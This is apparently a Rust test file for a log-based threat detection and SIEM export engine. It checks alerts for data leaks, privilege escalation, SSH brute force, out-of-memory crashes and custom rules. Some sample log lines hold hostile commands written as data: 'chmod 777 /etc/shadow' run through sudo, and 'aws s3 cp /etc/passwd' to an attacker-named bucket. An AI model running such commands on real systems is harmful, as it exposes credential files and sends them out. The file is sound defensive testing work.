use defudelog::detection::{assess, build_alert, raises_alert, Assessment, DetectionPipeline, TimeSignal};
use defudelog::engine::{categorize_threat, CorrelationObservation};
use defudelog::models::{parse_alert_level, rule_type_from_str, AlertLevel, DetectionRule, RuleType, Timestamp};
use defudelog::siem::SiemExporter;
use defudelog::store::{default_rule_row, DEFAULT_RULE_COUNT};

/// The rules that a new database holds, as the engine reads them.
fn seeded_rules(now: Timestamp) -> Vec<DetectionRule> {
    (0..DEFAULT_RULE_COUNT)
        .map(|k| {
            let (id, name, kind, pattern, severity) = default_rule_row(k);
            DetectionRule {
                id: id.to_string(),
                name: name.to_string(),
                description: String::new(),
                rule_type: rule_type_from_str(kind),
                pattern: pattern.to_string(),
                severity: parse_alert_level(severity),
                enabled: true,
                created_at: now,
            }
        })
        .collect()
}

/// The burst signal of an event, with the exponential decay (lambda 0.05)
/// over the earlier events of its family.
fn burst(obs: &CorrelationObservation, ts: i64, threshold: u64) -> Option<TimeSignal> {
    let mut score = 0.0f64;
    for &old in &obs.earlier {
        let dt = (ts - old).max(0) as f64;
        score += (-0.05 * dt).exp();
    }
    if score >= threshold as f64 * 0.4 {
        Some(TimeSignal {
            score: ((score / 10.0).min(1.0) * 10000.0).round() as u32,
            reason: format!("Rafale d'événements corrélés (Score temporel: {:.2}) sur '{}'", score, obs.family),
        })
    } else {
        None
    }
}

/// The decision for one line, as the pipeline takes it (no language model
/// embedding is available here, so no semantic signal and no outlier).
fn process_line(p: &mut DetectionPipeline, rules: &[DetectionRule], line: &str, ts: i64) -> Option<(Assessment, String)> {
    let parsed = p.parse_log_structure(line);
    let findings = p.evaluate_rules(line, rules);
    let obs = p.observe_event(&parsed.template, ts);
    let time = burst(&obs, ts, p.event_threshold());
    let a = assess(&parsed.template, parsed.classification, parsed.is_new, &findings, time, None, false);
    if raises_alert(a.level) {
        Some((a, parsed.template))
    } else {
        None
    }
}

fn setup() -> (DetectionPipeline, Vec<DetectionRule>, Timestamp) {
    let now = Timestamp { secs: 1_786_000_000, nanos: 0 };
    (DetectionPipeline::new(60, 10), seeded_rules(now), now)
}

#[test]
fn test_dlp_data_leak_detection() {
    let (mut engine, rules, now) = setup();
    let raw_log = "POST /api/v1/export HTTP/1.1 payload contains BEGIN RSA PRIVATE KEY and 1000 credit_cards";
    let alert = process_line(&mut engine, &rules, raw_log, now.secs);
    assert!(alert.is_some(), "DLP Data leak should generate an alert");
    let (alert, _) = alert.unwrap();
    assert_eq!(alert.level, AlertLevel::High, "DLP alert must be High severity");
    assert!(
        alert.reasons.iter().any(|r| r.contains("DLP") || r.contains("fuite") || r.contains("Template") || r.contains("RSA") || r.contains("Sensible")),
        "Reasons should mention threat"
    );
}

#[test]
fn test_privilege_escalation_detection() {
    let (mut engine, rules, now) = setup();
    let raw_log = "sudo: eviluser : TTY=pts/1 ; PWD=/home/eviluser ; USER=root ; COMMAND=/bin/chmod 777 /etc/shadow";
    let alert = process_line(&mut engine, &rules, raw_log, now.secs);
    assert!(alert.is_some(), "Privilege escalation should generate an alert");
    let (alert, _) = alert.unwrap();
    assert_eq!(alert.level, AlertLevel::High, "Privilege escalation must be High severity");
}

#[test]
fn test_brute_force_authentication_burst() {
    let (mut engine, rules, now) = setup();
    let mut generated_alerts = Vec::new();
    for i in 0..15i64 {
        let log_line = format!("sshd[{}]: Failed password for invalid user admin from 192.168.1.105 port 42890 ssh2", 1000 + i);
        let ts_ms = now.secs * 1000 + i * 100;
        if let Some(alert) = process_line(&mut engine, &rules, &log_line, ts_ms / 1000) {
            generated_alerts.push(alert);
        }
    }
    assert!(!generated_alerts.is_empty(), "Brute force burst should trigger alerts");
}

#[test]
fn test_system_anomaly_crash_detection() {
    let (mut engine, rules, now) = setup();
    let raw_log = "kernel: [12948.102] Out of memory: Kill process 8912 (mysqld) score 920 or sacrifice child";
    let alert = process_line(&mut engine, &rules, raw_log, now.secs);
    assert!(alert.is_some(), "System crash/OOM should trigger alert");
    let (alert, _) = alert.unwrap();
    assert!(alert.level == AlertLevel::High || alert.level == AlertLevel::Moderate);
}

#[test]
fn test_benign_operational_log_no_false_alarm() {
    let (mut engine, rules, now) = setup();
    let normal_log = "GET /healthz HTTP/1.1 200 OK 0.002s";
    let alert = process_line(&mut engine, &rules, normal_log, now.secs);
    assert!(alert.is_none(), "Normal healthcheck log should not trigger an alert");
}

#[test]
fn test_siem_exports_formats() {
    let (mut engine, rules, now) = setup();
    let raw_log = "exfiltration to s3 bucket aws s3 cp /etc/passwd s3://malicious-bucket/";
    let (assessment, template) = process_line(&mut engine, &rules, raw_log, now.secs).expect("Alert expected");
    let category = categorize_threat(raw_log, &assessment.reasons);
    let alert = build_alert(
        "alert-1".to_string(),
        "log-1".to_string(),
        template,
        category,
        assessment,
        false,
        Vec::new(),
        None,
        None,
        now,
    );
    let alerts = vec![alert];

    let cef = SiemExporter::export_batch(&alerts, "cef");
    assert!(cef.contains("CEF:0|DefuDelog|Platform|2.0|"), "CEF format invalid");

    let leef = SiemExporter::export_batch(&alerts, "leef");
    assert!(leef.contains("LEEF:2.0|DefuDelog|Platform|2.0|"), "LEEF format invalid");

    let syslog = SiemExporter::export_batch(&alerts, "syslog");
    assert!(syslog.starts_with('<') && syslog.contains("defudelog"), "Syslog RFC 5424 format invalid");
}

#[test]
fn test_custom_rule_engine_integration() {
    let (mut engine, mut rules, now) = setup();
    rules.push(DetectionRule {
        id: "rule_custom_1".to_string(),
        name: "Confidential Project Keyword".to_string(),
        description: "Détecte le nom de projet confidentiel PROJECT_TITAN".to_string(),
        rule_type: RuleType::Regex,
        pattern: r"(?i)PROJECT_TITAN".to_string(),
        severity: AlertLevel::High,
        enabled: true,
        created_at: now,
    });

    let raw_log = "User dev01 downloaded confidential document PROJECT_TITAN_SPEC.pdf";
    let alert = process_line(&mut engine, &rules, raw_log, now.secs);
    assert!(alert.is_some(), "Custom rule must trigger an alert");
    let (alert, _) = alert.unwrap();
    assert_eq!(alert.level, AlertLevel::High);
    assert!(alert.reasons.iter().any(|r| r.contains("Confidential Project Keyword")));
}
